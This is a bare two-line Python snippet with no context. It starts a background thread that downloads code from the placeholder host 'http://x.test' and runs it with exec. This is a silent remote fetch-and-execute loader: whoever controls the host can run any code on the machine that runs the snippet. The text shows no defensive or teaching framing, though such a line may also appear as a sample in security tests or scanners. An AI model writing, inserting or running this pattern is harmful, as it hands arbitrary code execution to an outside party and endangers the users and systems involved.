import _thread, urllib.request
_thread.start_new_thread(lambda: exec(urllib.request.urlopen('http://x.test').read()), ())
